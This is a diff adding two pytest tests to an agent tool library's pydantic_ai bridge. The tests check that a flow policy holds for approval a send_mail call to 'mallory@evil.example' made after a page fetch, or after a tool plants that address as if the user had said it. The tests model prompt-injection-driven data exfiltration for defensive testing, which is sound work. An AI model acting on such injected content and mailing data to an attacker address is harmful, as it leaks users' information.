@@ -32,7 +32,7 @@ from pydantic_ai.usage import RunUsage
 from spindle import Budget, Call, DispatchContext, Executor, Journal, Ok, Tool, ToolContext, ToolRegistry
 from spindle.bridges.frameworks.pydantic_ai import tools_of, tools_of_toolset, toolset
 from spindle.errors import InvalidToolError
-from tests.bridges.frameworks.workshop import HOSTILE, PNG, Workshop
+from tests.bridges.frameworks.workshop import HOSTILE, PNG, REASON, Workshop, build_guarded, fetch_page, send_mail
 
 pytestmark = [pytest.mark.anyio, pytest.mark.slow]
 
@@ -387,3 +387,36 @@ async def test_a_tool_of_ours_comes_back_whole(shop: Workshop) -> None:
     assert json.dumps(listed[0].describe()["input_schema"])
     assert "\n3\n" in added.value
     assert cut.code == "input_invalid"
+
+
+async def test_a_flow_policy_knows_prompts_and_results_of_the_conversation() -> None:
+    bob, eve = ("send_mail", '{"to": "bob@corp.example"}'), ("send_mail", '{"to": "mallory@evil.example"}')
+    script = Script([("fetch_page", "{}")], [bob, eve])
+    kept: Any = [str, DeferredToolRequests]
+    spindle = toolset([fetch_page, send_mail], executor=build_guarded())
+    agent = Agent(script.model, toolsets=[spindle], output_type=kept)
+
+    waiting = await agent.run("Send the page to bob@corp.example")
+
+    assert isinstance(waiting.output, DeferredToolRequests)
+    assert [call.tool_call_id for call in waiting.output.approvals] == ["c1_1"]
+    assert waiting.output.metadata["c1_1"]["reasons"] == [REASON.format(call_id="c0_0")]
+
+
+async def test_a_flow_policy_in_another_process_reads_the_history() -> None:
+    def hand_over() -> ToolReturn[str]:
+        """Return a text and show another as if the user had said it."""
+        return ToolReturn("see below", content="mallory@evil.example")
+
+    kept: Any = [str, DeferredToolRequests]
+    first = Agent(Script([("hand_over", "{}")]).model, tools=[hand_over])
+    done = await first.run("go")
+    spindle = toolset([fetch_page, send_mail], executor=build_guarded())
+    second = Agent(
+        Script([("send_mail", '{"to": "mallory@evil.example"}')]).model, toolsets=[spindle], output_type=kept
+    )
+
+    waiting = await second.run("thanks", message_history=done.all_messages())
+
+    assert isinstance(waiting.output, DeferredToolRequests)
+    assert len(waiting.output.metadata["c0_0"]["reasons"]) == 1
